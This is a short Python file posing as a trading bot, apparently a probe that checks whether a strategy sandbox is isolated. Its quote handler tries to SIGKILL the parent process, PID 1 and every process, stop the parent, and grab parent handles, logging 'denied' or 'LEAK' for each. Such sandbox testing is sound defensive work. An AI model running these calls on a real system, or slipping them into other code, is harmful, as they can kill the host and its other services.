import os
import signal

ATTEMPTS = {
    "parent": lambda: os.kill(os.getppid(), signal.SIGKILL),
    "first process": lambda: os.kill(1, signal.SIGKILL),
    "everybody": lambda: os.kill(-1, signal.SIGKILL),
    "own group": lambda: os.killpg(0, signal.SIGKILL),
    "parent stopped": lambda: os.kill(os.getppid(), signal.SIGSTOP),
    "pidfd": lambda: os.pidfd_open(os.getppid()),
    "descriptor owner": lambda: __import__("fcntl").fcntl(1, 8, os.getppid()),
}


class Trader:
    def on_quote(self, market, portfolio):
        for what, attempt in ATTEMPTS.items():
            try:
                result = attempt()
            except Exception as error:
                print("denied:", what, type(error).__name__)
            else:
                print("LEAK:", what, repr(result)[:200])
        ATTEMPTS.clear()


def build_trader(universe):
    return Trader()
